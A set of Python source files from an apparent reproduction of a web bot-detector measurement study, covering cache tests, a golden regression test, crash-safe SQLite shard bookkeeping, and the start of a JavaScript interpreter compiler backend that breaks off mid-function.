            if elapsed >= 30.0:
                expired = True
            if expired:
                assert entry is None
            else:
                assert entry is not None and entry.body == b"v"

    @given(st.floats(min_value=0.0, max_value=100.0, allow_nan=False))
    def test_reput_restarts_the_ttl(self, age):
        cache, clock = fresh_cache(capacity=4, ttl=30.0)
        cache.put("k", 1, b"old")
        clock.advance(age)
        cache.put("k", 1, b"new")
        clock.advance(29.0)
        entry = cache.get("k", 1)
        assert entry is not None and entry.body == b"new"

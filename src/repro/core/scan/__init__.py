"""The Tranco-scale bot-detector scan (paper Sec. 4)."""

from repro.core.scan.static_analysis import (
    PATTERN_SET_VERSION,
    PATTERNS,
    PatternHit,
    deobfuscate,
    scan_script,
)
from repro.core.scan.dynamic_analysis import ScanExtension
from repro.core.scan.classify import SiteClassification, classify_site
from repro.core.scan.pipeline import ScanDataset, ScanPipeline

__all__ = [
    "PATTERN_SET_VERSION",
    "PATTERNS",
    "PatternHit",
    "deobfuscate",
    "scan_script",
    "ScanExtension",
    "SiteClassification",
    "classify_site",
    "ScanPipeline",
    "ScanDataset",
]

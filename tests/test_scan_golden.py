"""Golden-dataset regression test for the scan pipeline.

Pins every paper artifact (tables 5/6/7/11/12, figs 3/4/5) and the
reclassification ablations for one seeded SyntheticWeb crawl, serialized
canonically and compared byte-for-byte against a committed golden file.
The same payload is asserted identical across three corpus-cache modes:

* cold  — fresh run, empty analysis cache;
* warm  — ``resume=True`` restore of the same queue, every static
  verdict served from the persisted cache;
* disabled — fresh run with ``REPRO_CORPUS_CACHE=off``.

Any divergence means the memoization layer changed classification
semantics, which it must never do.

To regenerate after an intentional pipeline change::

    REPRO_UPDATE_GOLDEN=1 PYTHONPATH=src \
        python -m pytest tests/test_scan_golden.py -q
"""

import json
import os
import pathlib

import pytest

from repro.core.scan import ScanPipeline
from repro.web import build_world

GOLDEN_PATH = pathlib.Path(__file__).parent / "golden" / "scan_golden.json"
SITE_COUNT = 80
WORLD_SEED = 21


def _classification_summary(classifications):
    """Table5-style counts for one reclassification sweep."""
    summary = {"identified_static": 0, "identified_dynamic": 0,
               "identified_union": 0, "clean_static": 0,
               "clean_dynamic": 0, "clean_union": 0}
    for c in classifications.values():
        summary["identified_static"] += c.static_identified
        summary["identified_dynamic"] += c.dynamic_identified
        summary["identified_union"] += c.identified_union
        summary["clean_static"] += c.static_clean
        summary["clean_dynamic"] += c.dynamic_clean
        summary["clean_union"] += c.clean_union
    return summary


def _payload(dataset, world) -> str:
    fig5 = {group: dict(counter)
            for group, counter in dataset.fig5(world.tranco).items()}
    payload = {
        "table5": dataset.table5(),
        "table6": dataset.table6(),
        "table7": dataset.table7(10),
        "table11": dataset.table11(),
        "table12": dataset.table12(),
        "fig3": dataset.fig3(world.tranco),
        "fig4": dataset.fig4(),
        "fig5": fig5,
        "ablations": {
            "full": _classification_summary(dataset.reclassify()),
            "no_honey": _classification_summary(
                dataset.reclassify(use_honey=False)),
            "no_deobf": _classification_summary(
                dataset.reclassify(preprocess_static=False)),
            "front_only": _classification_summary(
                dataset.reclassify(max_visits=1)),
        },
        "visited_sites": dataset.visited_sites,
        "unique_scripts": len(dataset.unique_scripts),
    }
    return json.dumps(payload, sort_keys=True, indent=1)


def _run(world, queue_path: str, resume: bool = False) -> str:
    pipeline = ScanPipeline(world, client_id="golden-scan")
    dataset = pipeline.run(visit_subpages=True, queue_path=queue_path,
                           resume=resume)
    try:
        return _payload(dataset, world)
    finally:
        dataset.corpus.close()


@pytest.fixture(scope="module")
def world():
    return build_world(site_count=SITE_COUNT, seed=WORLD_SEED)


@pytest.fixture(scope="module")
def cold_payload(world, tmp_path_factory):
    queue = str(tmp_path_factory.mktemp("golden") / "cold.queue")
    payload = _run(world, queue)
    return queue, payload


def test_cold_run_matches_golden(cold_payload):
    _, payload = cold_payload
    if os.environ.get("REPRO_UPDATE_GOLDEN") == "1":
        GOLDEN_PATH.parent.mkdir(parents=True, exist_ok=True)
        GOLDEN_PATH.write_text(payload + "\n")
        pytest.skip("golden file regenerated")
    if not GOLDEN_PATH.exists():
        pytest.fail(
            "missing golden file; regenerate with "
            "REPRO_UPDATE_GOLDEN=1 PYTHONPATH=src "
            "python -m pytest tests/test_scan_golden.py -q")
    assert payload + "\n" == GOLDEN_PATH.read_text()


def test_warm_cache_resume_is_byte_identical(world, cold_payload):
    queue, payload = cold_payload
    # Every site is already completed: the resume path rebuilds the
    # dataset purely from the sidecar + corpus, and every static
    # verdict is a cache hit.
    assert _run(world, queue, resume=True) == payload


def test_cache_disabled_is_byte_identical(world, cold_payload,
                                          tmp_path_factory, monkeypatch):
    _, payload = cold_payload
    queue = str(tmp_path_factory.mktemp("golden-nc") / "off.queue")
    monkeypatch.setenv("REPRO_CORPUS_CACHE", "off")
    assert _run(world, queue) == payload

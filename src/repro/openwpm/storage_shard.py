"""Per-worker shard bookkeeping for the sharded storage mode.

In ``--shard-dbs`` mode every worker process owns a private, file-backed
:class:`~repro.openwpm.storage.StorageController` (its *shard*) and
resolves its own queue verdicts — the coordinator's broker round-trip
is gone and the pipes carry only lifecycle events. What makes the mode
mergeable afterwards is the ``shard_jobs`` table this module maintains
inside each shard: one row per *attempt*, recording the queue verdict
and the half-open id ranges ``(lo, hi]`` of every row the attempt
committed to each raw table. The merge step
(:mod:`repro.openwpm.merge`) replays applied attempts into the
canonical database in strict ``(job_id, attempts)`` order, which is
exactly the order the single-writer broker applies envelopes in — so a
clean sharded crawl folds byte-identical to the broker path.

Two failure windows need care, because the queue and the shard are
separate SQLite files with no shared transaction:

* **provisional rows** — the worker inserts the ``shard_jobs`` row with
  ``applied = NULL`` *before* touching the queue and finalizes it to
  1/0 after. A worker that dies in between leaves a NULL row;
  :meth:`ShardRecorder.recover` (on respawn) and the merge (given the
  queue) resolve it against the queue's authoritative status.
* **orphan rows** — a worker SIGKILLed mid-job may have committed raw
  rows past every recorded range (e.g. dying between the visit commit
  and the ``shard_jobs`` insert). Recovery deletes everything past the
  recorded high-water marks, matching the broker path where an
  unshipped envelope simply never reaches the canonical database.

Voided attempts (the worker's queue call raised
:class:`~repro.sched.jobs.LeaseError`) keep their ``shard_jobs`` row
with ``applied = 0``; the worker deletes the attempt's visits locally
(mirroring the broker's discard) and the merge imports only the
attempt's ``content`` rows — content is hash-deduplicated and
visit-less, so this matches both the broker (which never deletes
imported content) and the inline path (where the winning attempt
produces the same bytes).
"""

from __future__ import annotations

import sqlite3
from typing import Any, Dict, List, Optional, Tuple

#: shard_jobs range columns, per raw table: (lo_column, hi_column).
RANGE_COLUMNS: Dict[str, Tuple[str, str]] = {
    "site_visits": ("visit_lo", "visit_hi"),
    "content": ("content_lo", "content_hi"),
    "crash_history": ("crash_lo", "crash_hi"),
    "failed_visits": ("failed_lo", "failed_hi"),
    "quarantined_sites": ("quarantine_lo", "quarantine_hi"),
}

_SHARD_SCHEMA = """
CREATE TABLE IF NOT EXISTS shard_jobs (
    seq INTEGER PRIMARY KEY AUTOINCREMENT,
    job_id INTEGER NOT NULL,
    attempts INTEGER NOT NULL,
    owner TEXT NOT NULL,
    site_url TEXT NOT NULL,
    browser_id INTEGER NOT NULL DEFAULT 0,
    kind TEXT NOT NULL,
    error TEXT NOT NULL DEFAULT '',
    state TEXT NOT NULL DEFAULT '',
    applied INTEGER,
    quarantined INTEGER NOT NULL DEFAULT 0,
    visit_lo INTEGER NOT NULL DEFAULT 0,
    visit_hi INTEGER NOT NULL DEFAULT 0,
    content_lo INTEGER NOT NULL DEFAULT 0,
    content_hi INTEGER NOT NULL DEFAULT 0,
    crash_lo INTEGER NOT NULL DEFAULT 0,
    crash_hi INTEGER NOT NULL DEFAULT 0,
    failed_lo INTEGER NOT NULL DEFAULT 0,
    failed_hi INTEGER NOT NULL DEFAULT 0,
    quarantine_lo INTEGER NOT NULL DEFAULT 0,
    quarantine_hi INTEGER NOT NULL DEFAULT 0
);
CREATE TABLE IF NOT EXISTS shard_meta (
    key TEXT PRIMARY KEY,
    value TEXT NOT NULL
) WITHOUT ROWID;
"""


def is_shard_database(path: str) -> bool:
    """Does *path* carry a ``shard_jobs`` table?"""
    try:
        conn = sqlite3.connect(path)
    except sqlite3.OperationalError:
        return False
    try:
        return conn.execute(
            "SELECT name FROM sqlite_master WHERE type = 'table' "
            "AND name = 'shard_jobs'").fetchone() is not None
    except sqlite3.DatabaseError:
        return False
    finally:
        conn.close()


class ShardRecorder:
    """Attempt-range bookkeeping on top of a shard StorageController.

    The recorder shares the controller's connection and lock, so a
    ``shard_jobs`` insert commits atomically with nothing else — the
    provisional/finalize protocol (module docstring) is what bridges
    the shard and the queue across the two-database gap.
    """

    def __init__(self, storage: Any, source: str = "worker") -> None:
        self.storage = storage
        self.connection = storage.connection
        self.source = source
        with storage._lock:
            self.connection.executescript(_SHARD_SCHEMA)
            self.connection.execute(
                "INSERT INTO shard_meta (key, value) VALUES ('source', ?)"
                " ON CONFLICT(key) DO UPDATE SET value = excluded.value",
                (source,))
            self.connection.commit()

    # -- watermarks ----------------------------------------------------
    def watermarks(self) -> Dict[str, int]:
        """Current per-table high-water marks (after a flush).

        Captured before an attempt runs (its ``lo``) and after it
        resolves (its ``hi``); everything in ``(lo, hi]`` belongs to
        the attempt.
        """
        with self.storage._lock:
            self.storage._flush_locked()
            marks = {}
            for table, sql in (
                    ("site_visits",
                     "SELECT MAX(visit_id) FROM site_visits"),
                    ("content", "SELECT MAX(rowid) FROM content"),
                    ("crash_history", "SELECT MAX(id) FROM crash_history"),
                    ("failed_visits", "SELECT MAX(id) FROM failed_visits"),
                    ("quarantined_sites",
                     "SELECT MAX(id) FROM quarantined_sites")):
                row = self.connection.execute(sql).fetchone()
                marks[table] = int(row[0] or 0)
            return marks

    # -- the provisional/finalize protocol -----------------------------
    def record_provisional(self, *, job_id: int, attempts: int,
                           owner: str, site_url: str, browser_id: int,
                           kind: str, error: str, quarantined: bool,
                           lo: Dict[str, int]
                           ) -> Tuple[int, Dict[str, int]]:
        """Insert the attempt row with ``applied = NULL`` and the final
        ranges, *before* the queue resolution runs. Returns
        ``(seq, hi_marks)``."""
        hi = self.watermarks()
        columns = ["job_id", "attempts", "owner", "site_url",
                   "browser_id", "kind", "error", "quarantined"]
        values: List[Any] = [job_id, attempts, owner, site_url,
                             browser_id, kind, error,
                             1 if quarantined else 0]
        for table, (lo_col, hi_col) in RANGE_COLUMNS.items():
            columns.extend((lo_col, hi_col))
            values.extend((lo.get(table, 0), hi[table]))
        with self.storage._lock:
            cursor = self.connection.execute(
                "INSERT INTO shard_jobs (" + ", ".join(columns)
                + ") VALUES (" + ", ".join("?" for _ in columns) + ")",
                values)
            self.connection.commit()
            return int(cursor.lastrowid), hi

    def finalize(self, seq: int, applied: bool, state: str) -> None:
        """Settle a provisional row after the queue answered."""
        with self.storage._lock:
            self.connection.execute(
                "UPDATE shard_jobs SET applied = ?, state = ? "
                "WHERE seq = ?",
                (1 if applied else 0, state, seq))
            self.connection.commit()

    # -- range reads (the worker's live-void path) ---------------------
    def visit_ids_in(self, lo: int, hi: int) -> List[int]:
        with self.storage._lock:
            return [int(r[0]) for r in self.connection.execute(
                "SELECT visit_id FROM site_visits WHERE visit_id > ? "
                "AND visit_id <= ? ORDER BY visit_id", (lo, hi))]

    def has_rows(self, table: str, lo: int, hi: int) -> bool:
        with self.storage._lock:
            return self.connection.execute(
                f"SELECT 1 FROM {table} "  # noqa: S608
                f"WHERE id > ? AND id <= ? LIMIT 1",
                (lo, hi)).fetchone() is not None

    # -- crash recovery (respawn / merge) ------------------------------
    def recover(self, queue: Any) -> Dict[str, int]:
        """Reconcile a predecessor's torn state against the queue.

        Runs once per worker incarnation, before any claim. Returns
        ``{"resolved": n, "voided": n, "pruned_visits": n}``.
        """
        report = {"resolved": 0, "voided": 0, "pruned_visits": 0}
        with self.storage._lock:
            rows = self.connection.execute(
                "SELECT * FROM shard_jobs WHERE applied IS NULL "
                "ORDER BY seq").fetchall()
        for row in rows:
            applied = resolve_provisional(dict(row), queue)
            report["resolved"] += 1
            if not applied:
                report["voided"] += 1
                self._delete_ranges(dict(row))
            self.finalize(int(row["seq"]),
                          applied, "recovered")
        report["pruned_visits"] = self.prune_orphans()
        return report

    def _delete_ranges(self, row: Dict[str, Any]) -> None:
        """Drop *every* raw row a dead attempt committed.

        Only for recovery voids: the attempt's queue call never landed,
        so in broker terms its envelope was never shipped — nothing of
        it may survive, content and crash rows included (live voids are
        handled by the worker itself and keep content, matching the
        broker's discard).
        """
        with self.storage._lock:
            for visit_id in [int(r[0]) for r in self.connection.execute(
                    "SELECT visit_id FROM site_visits "
                    "WHERE visit_id > ? AND visit_id <= ?",
                    (row["visit_lo"], row["visit_hi"]))]:
                self.storage.delete_visit(visit_id)
            self.connection.execute(
                "DELETE FROM content WHERE rowid > ? AND rowid <= ?",
                (row["content_lo"], row["content_hi"]))
            for table, (lo_col, hi_col) in RANGE_COLUMNS.items():
                if table in ("site_visits", "content"):
                    continue
                self.connection.execute(
                    f"DELETE FROM {table} "  # noqa: S608
                    f"WHERE id > ? AND id <= ?",
                    (row[lo_col], row[hi_col]))
            self.connection.commit()

    def prune_orphans(self) -> int:
        """Delete raw rows past every recorded range.

        A SIGKILLed predecessor may have committed rows it never
        recorded an attempt for; the broker analogue never shipped, so
        they must not reach the merge. Returns pruned visit count.
        """
        with self.storage._lock:
            marks = {}
            for table, (_lo, hi_col) in RANGE_COLUMNS.items():
                row = self.connection.execute(
                    f"SELECT MAX({hi_col}) FROM shard_jobs").fetchone()
                marks[table] = int(row[0] or 0)
            doomed = [int(r[0]) for r in self.connection.execute(
                "SELECT visit_id FROM site_visits WHERE visit_id > ?",
                (marks["site_visits"],))]
            for visit_id in doomed:
                self.storage.delete_visit(visit_id)
            self.connection.execute(
                "DELETE FROM content WHERE rowid > ?",
                (marks["content"],))
            for table in ("crash_history", "failed_visits",
                          "quarantined_sites"):
                self.connection.execute(
                    f"DELETE FROM {table} WHERE id > ?",  # noqa: S608
                    (marks[table],))
            self.connection.commit()
            return len(doomed)


def resolve_provisional(row: Dict[str, Any], queue: Any) -> bool:
    """Was a torn attempt's queue resolution actually applied?

    The queue is the authority: a ``complete`` verdict counts iff the
    job is completed, a ``terminal`` verdict iff it is failed, and a
    ``retry`` verdict's crash residue is kept either way (the broker
    imports retry residue unconditionally at arrival).
    """
    status = queue.job_status(int(row["job_id"]))
    kind = str(row["kind"])
    if kind == "complete":
        return status == "completed"
    if kind == "terminal":
        return status == "failed"
    return True


def read_shard_jobs(path: str) -> Tuple[str, List[Dict[str, Any]]]:
    """A shard's source tag and its ``shard_jobs`` rows, by seq."""
    conn = sqlite3.connect(path)
    conn.row_factory = sqlite3.Row
    try:
        source_row = conn.execute(
            "SELECT value FROM shard_meta WHERE key = 'source'"
        ).fetchone()
        source = str(source_row[0]) if source_row else "worker"
        rows = [dict(row) for row in conn.execute(
            "SELECT * FROM shard_jobs ORDER BY seq")]
        return source, rows
    finally:
        conn.close()


class ScanSpool:
    """Per-worker persistence for sharded scan results.

    The scan analogue of the crawl shard: each worker spools its
    completed sites' evidence payloads and deduplicated script bodies
    into a private SQLite file, resolves the queue itself, and the
    coordinator folds the spools into the canonical corpus/store in
    strict job-id order at end of scan. The provisional/finalize
    protocol matches :class:`ShardRecorder` — a payload row exists
    before the queue call, so "completed in the queue" still implies
    "evidence on disk" (in the spool, until the fold lands it).
    """

    _SCHEMA = """
    CREATE TABLE IF NOT EXISTS scan_jobs (
        seq INTEGER PRIMARY KEY AUTOINCREMENT,
        job_id INTEGER NOT NULL,
        attempts INTEGER NOT NULL,
        owner TEXT NOT NULL,
        site_url TEXT NOT NULL,
        kind TEXT NOT NULL,
        error TEXT NOT NULL DEFAULT '',
        state TEXT NOT NULL DEFAULT '',
        applied INTEGER,
        payload TEXT NOT NULL DEFAULT ''
    );
    CREATE TABLE IF NOT EXISTS scan_bodies (
        digest TEXT PRIMARY KEY,
        body TEXT NOT NULL
    ) WITHOUT ROWID;
    """

    def __init__(self, path: str) -> None:
        self.path = path
        self.connection = sqlite3.connect(path)
        self.connection.row_factory = sqlite3.Row
        self.connection.execute("PRAGMA journal_mode=WAL")
        self.connection.execute("PRAGMA busy_timeout=10000")
        self.connection.executescript(self._SCHEMA)
        self.connection.commit()

    def add_bodies(self, bodies: Dict[str, str]) -> None:
        if bodies:
            self.connection.executemany(
                "INSERT OR IGNORE INTO scan_bodies (digest, body) "
                "VALUES (?, ?)", sorted(bodies.items()))

    def record_provisional(self, *, job_id: int, attempts: int,
                           owner: str, site_url: str, kind: str,
                           error: str, payload: str) -> int:
        cursor = self.connection.execute(
            "INSERT INTO scan_jobs (job_id, attempts, owner, site_url, "
            "kind, error, payload) VALUES (?, ?, ?, ?, ?, ?, ?)",
            (job_id, attempts, owner, site_url, kind, error, payload))
        self.connection.commit()
        return int(cursor.lastrowid)

    def finalize(self, seq: int, applied: bool, state: str) -> None:
        self.connection.execute(
            "UPDATE scan_jobs SET applied = ?, state = ? WHERE seq = ?",
            (1 if applied else 0, state, seq))
        self.connection.commit()

    def recover(self, queue: Any) -> int:
        """Settle provisional rows against the queue (respawn path)."""
        rows = self.connection.execute(
            "SELECT seq, job_id, kind FROM scan_jobs "
            "WHERE applied IS NULL ORDER BY seq").fetchall()
        for row in rows:
            status = queue.job_status(int(row["job_id"]))
            applied = (status == "completed"
                       if str(row["kind"]) == "complete"
                       else status == "failed")
            self.finalize(int(row["seq"]), applied, "recovered")
        return len(rows)

    def close(self) -> None:
        self.connection.close()


def read_scan_spool(path: str, queue: Optional[Any] = None
                    ) -> Tuple[List[Dict[str, Any]],
                               "ScanSpoolBodies"]:
    """Applied complete rows of one spool, plus a body handle.

    Rows still provisional (the worker died mid-resolution and never
    respawned) are settled against *queue* when given: the payload
    counts iff the queue says the job completed.
    """
    conn = sqlite3.connect(path)
    conn.row_factory = sqlite3.Row
    rows = []
    for row in conn.execute(
            "SELECT * FROM scan_jobs WHERE kind = 'complete' "
            "AND (applied = 1 OR applied IS NULL) ORDER BY seq"):
        entry = dict(row)
        if entry["applied"] is None:
            if queue is None or queue.job_status(
                    int(entry["job_id"])) != "completed":
                continue
            entry["applied"] = 1
        rows.append(entry)
    return rows, ScanSpoolBodies(conn)


class ScanSpoolBodies:
    """Digest->body lookups (and fold marking) on an open spool."""

    def __init__(self, connection: sqlite3.Connection) -> None:
        self.connection = connection

    def get(self, digest: str) -> Optional[str]:
        row = self.connection.execute(
            "SELECT body FROM scan_bodies WHERE digest = ?",
            (digest,)).fetchone()
        return None if row is None else str(row[0])

    def mark_folded(self, seq: int) -> None:
        """Stamp a row as landed in the canonical corpus/store, so a
        resumed run's fold never double-counts its refcounts."""
        self.connection.execute(
            "UPDATE scan_jobs SET applied = 1, state = 'folded' "
            "WHERE seq = ?", (seq,))
        self.connection.commit()

    def close(self) -> None:
        self.connection.close()

"""Closure-compilation backend for the JS interpreter.

A one-time pass lowers each :class:`ast.Program` into a tree of Python
closures: every node becomes a specialized ``fn(rt, scope) -> value``
(``rt`` is the executing :class:`Interpreter`; closures are cached
process-wide on the AST nodes and shared across realms, so they must not
close over an interpreter). Constants are folded at compile time,
statically safe identifier lookups are pre-resolved to a parent-hop
count, operator dispatch happens once per node instead of once per
execution, and loop bodies are compiled once instead of re-dispatched
per iteration.

The tree-walking interpreter remains the reference implementation
(``REPRO_JS_COMPILE=off``) and the two backends are pinned to identical
observable behaviour — including the *exact* operation count charged
against the execution budget, the frame line/column updates that feed
``Error.stack`` (the channel the paper uses to detect OpenWPM's
wrappers), and the order of engine ``access_hook`` events. Every closure
therefore starts with the same inline "tick" the tree-walker performs in
``execute``/``evaluate``, and deliberately re-creates the walker's
quirks (conditional var hoisting, catch params hoisting to the nearest
function scope, compound assignments re-evaluating member objects, ...).

Identifier pre-resolution is conservative: a lookup compiles to a direct
``scope.parent...variables[name]`` access only when the binding is
guaranteed present from scope entry (function params, ``arguments``,
direct function declarations, top-level program vars) and no
intervening scope could *ever* declare the same name (tracked through a
compile-time static-scope chain mirroring the runtime one). Anything
else keeps the full runtime scope walk, which is what makes the
backend safe against the walker's runtime-conditional hoisting.
"""

from __future__ import annotations

import math
from typing import Any, Dict, List, Optional, Tuple

from repro.jsengine import ast_nodes as ast
from repro.jsengine.interpreter import (
    Frame,
    Scope,
    ScriptFunction,
    _Break,
    _Continue,
    _Return,
)
from repro.jsobject.descriptors import PropertyDescriptor
from repro.jsobject.errors import JSError
from repro.jsobject.functions import JSFunction
from repro.jsobject.objects import JSArray, JSObject
from repro.jsobject.values import (
    NULL,
    UNDEFINED,
    js_equals,
    js_strict_equals,
    js_truthy,
    js_typeof,
)

_MISSING = object()
_math_nan = math.nan
_math_fmod = math.fmod


# ---------------------------------------------------------------------------
# Compiled units
# ---------------------------------------------------------------------------

def _run_hoist(plan: Tuple, rt: Any, scope: Scope) -> None:
    """Execute a precomputed hoist plan; mirrors ``Interpreter.hoist``.

    The var guard is runtime-conditional on purpose: the walker only
    declares a var name when ``scope.resolve`` misses, and resolution
    depends on the live closure chain.
    """
    for is_fn, payload, name in plan:
        if is_fn:
            scope.declare(name, ScriptFunction(payload, scope, rt))
        elif scope.resolve(name) is None:
            scope.declare(name, UNDEFINED)


class CompiledProgram:
    """A compiled top-level program; cached on the ``Program`` node."""

    __slots__ = ("hoist_plan", "statements")

    def __init__(self, hoist_plan: Tuple, statements: Tuple) -> None:
        self.hoist_plan = hoist_plan
        self.statements = statements

    def run(self, rt: Any, script_url: str) -> Any:
        # Mirrors Interpreter.run_program, including the budget reset.
        previous_url = rt.current_script_url
        rt.current_script_url = script_url
        rt._ops_left = rt.budget
        scope = Scope(function_scope=True)
        rt.push_frame(Frame("<global>", script_url))
        previous_this = rt.current_this
        rt.current_this = rt.global_object
        result: Any = UNDEFINED
        try:
            if self.hoist_plan:
                _run_hoist(self.hoist_plan, rt, scope)
            for statement in self.statements:
                result = statement(rt, scope)
        finally:
            rt.current_this = previous_this
            rt.pop_frame()
            rt.current_script_url = previous_url
        return result

    def run_in_scope(self, rt: Any, scope: Scope) -> Any:
        """Body of ``Interpreter.run_program_in_scope`` (caller manages
        frame/url/this and does not reset the budget)."""
        if self.hoist_plan:
            _run_hoist(self.hoist_plan, rt, scope)
        result: Any = UNDEFINED
        for statement in self.statements:
            result = statement(rt, scope)
        return result


class CompiledFunction:
    """A compiled function body; cached on the ``FunctionExpression``.

    One plan serves every ``ScriptFunction`` sharing the node (the four
    instrumentation wrapper templates are process-wide nodes backing
    thousands of wrappers).
    """

    __slots__ = ("params", "hoist_plan", "statements", "is_arrow",
                 "line", "column")

    def __init__(self, params: Tuple[str, ...], hoist_plan: Tuple,
                 statements: Tuple, is_arrow: bool,
                 line: int, column: int) -> None:
        self.params = params
        self.hoist_plan = hoist_plan
        self.statements = statements
        self.is_arrow = is_arrow
        self.line = line
        self.column = column

    def call(self, fn: ScriptFunction, rt: Any, this: Any,
             args: List[Any]) -> Any:
        # Mirrors ScriptFunction.call's tree-walk body.
        scope = Scope(parent=fn.closure, function_scope=True)
        variables = scope.variables
        nargs = len(args)
        for index, param in enumerate(self.params):
            variables[param] = args[index] if index < nargs else UNDEFINED
        is_arrow = self.is_arrow
        if not is_arrow:
            variables["arguments"] = JSArray(
                list(args), proto=rt.realm.array_prototype
                if rt.realm else None)
        effective_this = fn.captured_this if is_arrow else this
        rt.push_frame(Frame(fn.function_name or "<anonymous>",
                            fn.script_url, self.line, self.column))
        previous_this = rt.current_this
        rt.current_this = effective_this
        try:
            if self.hoist_plan:
                _run_hoist(self.hoist_plan, rt, scope)
            for statement in self.statements:
                statement(rt, scope)
        except _Return as ret:
            return ret.value
        finally:
            rt.current_this = previous_this
            rt.pop_frame()
        return UNDEFINED


# ---------------------------------------------------------------------------
# Static scope analysis
# ---------------------------------------------------------------------------

class _StaticScope:
    """Compile-time mirror of one runtime :class:`Scope`.

    ``always`` holds names guaranteed bound from scope entry onward;
    ``maybe`` every name that could ever be bound in the scope;
    ``consts`` names that may be const-declared here. ``opaque`` marks
    the unknown parent chain of a standalone-compiled function (e.g. the
    instrumentation wrapper templates, whose closures are host-built).
    """

    __slots__ = ("parent", "function_scope", "opaque",
                 "always", "maybe", "consts")

    def __init__(self, parent: Optional["_StaticScope"],
                 function_scope: bool = False,
                 opaque: bool = False) -> None:
        self.parent = parent
        self.function_scope = function_scope
        self.opaque = opaque
        self.always: set = set()
        self.maybe: set = set()
        self.consts: set = set()


def _collect_scoped_names(body: List[ast.Node], out: set) -> None:
    """Names that executing *body* may declare into the enclosing
    function scope: vars at any block depth, function declarations at
    any depth (block-level hoisting targets the nearest function scope),
    for-in var loop variables, and catch params (``catch_scope.declare``
    uses kind 'var', which hoists past the non-function catch scope).
    Does not descend into nested functions."""
    for statement in body:
        kind = type(statement)
        if kind is ast.VariableDeclaration:
            if statement.kind == "var":
                out.update(name for name, _ in statement.declarations)
        elif kind is ast.FunctionDeclaration:
            out.add(statement.function.name)
        elif kind is ast.BlockStatement:
            _collect_scoped_names(statement.body, out)
        elif kind is ast.IfStatement:
            _collect_scoped_names([statement.consequent], out)
            if statement.alternate is not None:
                _collect_scoped_names([statement.alternate], out)
        elif kind in (ast.WhileStatement, ast.DoWhileStatement):
            _collect_scoped_names([statement.body], out)
        elif kind is ast.ForStatement:
            if statement.init is not None:
                _collect_scoped_names([statement.init], out)
            _collect_scoped_names([statement.body], out)
        elif kind is ast.ForInStatement:
            if statement.kind == "var":
                out.add(statement.name)
            _collect_scoped_names([statement.body], out)
        elif kind is ast.TryStatement:
            _collect_scoped_names(statement.block.body, out)
            if statement.catch_param:
                out.add(statement.catch_param)
            if statement.catch_block is not None:
                _collect_scoped_names(statement.catch_block.body, out)
            if statement.finally_block is not None:
                _collect_scoped_names(statement.finally_block.body, out)
        elif kind is ast.SwitchStatement:
            for case in statement.cases:
                _collect_scoped_names(case.body, out)


def _direct_lets(body: List[ast.Node]) -> Tuple[set, set]:
    """let/const names declared by *body*'s own statement list (they
    bind into the current scope when the statement executes)."""
    lets: set = set()
    consts: set = set()
    for statement in body:
        if type(statement) is ast.VariableDeclaration \
                and statement.kind in ("let", "const"):
            names = [name for name, _ in statement.declarations]
            lets.update(names)
            if statement.kind == "const":
                consts.update(names)
    return lets, consts


def _function_static_scope(parent: Optional[_StaticScope],
                           body: List[ast.Node],
                           params: Optional[List[str]] = None,
                           is_arrow: bool = False,
                           is_root: bool = False) -> _StaticScope:
    scope = _StaticScope(parent, function_scope=True)
    always = scope.always
    if params is not None:
        always.update(params)
        if not is_arrow:
            always.add("arguments")
    direct_vars: set = set()
    for statement in body:
        if type(statement) is ast.FunctionDeclaration:
            always.add(statement.function.name)
        elif type(statement) is ast.VariableDeclaration \
                and statement.kind == "var":
            direct_vars.update(name for name, _ in statement.declarations)
    if is_root:
        # A program scope has no parent, so its hoist pass declares
        # every direct var unconditionally. Inside a function the var
        # guard consults the live closure chain — conditional, so those
        # names stay in ``maybe`` only.
        always.update(direct_vars)
    deep: set = set()
    _collect_scoped_names(body, deep)
    lets, consts = _direct_lets(body)
    scope.maybe = always | direct_vars | deep | lets
    scope.consts = consts
    return scope


def _block_static_scope(parent: _StaticScope,
                        body: List[ast.Node]) -> _StaticScope:
    # Block hoisting (functions and the var guard) targets the nearest
    # *function* scope, so a block scope only ever gains let/const
    # bindings, and only as its statements execute.
    scope = _StaticScope(parent)
    scope.maybe, scope.consts = _direct_lets(body)
    return scope


def _resolve_static(scope: _StaticScope, name: str,
                    for_write: bool = False) -> Optional[int]:
    """Parent-hop count to a binding guaranteed present for the whole
    lifetime of every enclosing scope, or None to use the runtime walk."""
    hops = 0
    current: Optional[_StaticScope] = scope
    while current is not None:
        if current.opaque:
            return None
        if name in current.always:
            if for_write and name in current.consts:
                return None
            return hops
        if name in current.maybe:
            return None
        current = current.parent
        hops += 1
    return None


# ---------------------------------------------------------------------------
# The compiler
# ---------------------------------------------------------------------------

def compile_program(program: ast.Program) -> CompiledProgram:
    """Compile (and cache on the node) a top-level program."""
    unit = getattr(program, "_compiled_unit", None)
    if unit is not None:
        return unit
    root = _function_static_scope(None, program.body, is_root=True)
    compiler = _Compiler(root)
    hoist_plan = compiler._hoist_plan(program.body)
    statements = tuple(compiler._stmt(s) for s in program.body)
    unit = CompiledProgram(hoist_plan, statements)
    program._compiled_unit = unit
    return unit


def compile_function(node: ast.FunctionExpression) -> CompiledFunction:
    """Compile a standalone function node (unknown closure chain)."""
    plan = getattr(node, "_compiled_plan", None)
    if plan is not None:
        return plan
    opaque = _StaticScope(None, opaque=True)
    return _compile_function_node(node, opaque)


def _compile_function_node(node: ast.FunctionExpression,
                           parent: _StaticScope) -> CompiledFunction:
    plan = getattr(node, "_compiled_plan", None)
    if plan is not None:
        return plan
    scope = _function_static_scope(parent, node.body, params=node.params,
                                   is_arrow=node.is_arrow)
    compiler = _Compiler(scope)
    hoist_plan = compiler._hoist_plan(node.body)
    statements = tuple(compiler._stmt(s) for s in node.body)
    plan = CompiledFunction(tuple(node.params), hoist_plan, statements,
                            node.is_arrow, node.line, node.column)
    node._compiled_plan = plan
    return plan


class _Compiler:
    """Compiles one lexical region; ``self.scope`` tracks the static
    scope chain mirroring the runtime scopes the compiled code creates."""

    def __init__(self, scope: _StaticScope) -> None:
        self.scope = scope

    # -- dispatch ----------------------------------------------------------
    def _stmt(self, node: ast.Node):
        method = _STMT.get(type(node))
        if method is None:
            raise NotImplementedError(
                f"no executor for {type(node).__name__}")
        return method(self, node)

    def _expr(self, node: ast.Node):
        method = _EXPR.get(type(node))
        if method is None:
            raise NotImplementedError(
                f"no evaluator for {type(node).__name__}")
        return method(self, node)

    def _hoist_plan(self, body: List[ast.Node]) -> Tuple:
        plan = []
        for statement in body:
            if isinstance(statement, ast.FunctionDeclaration):
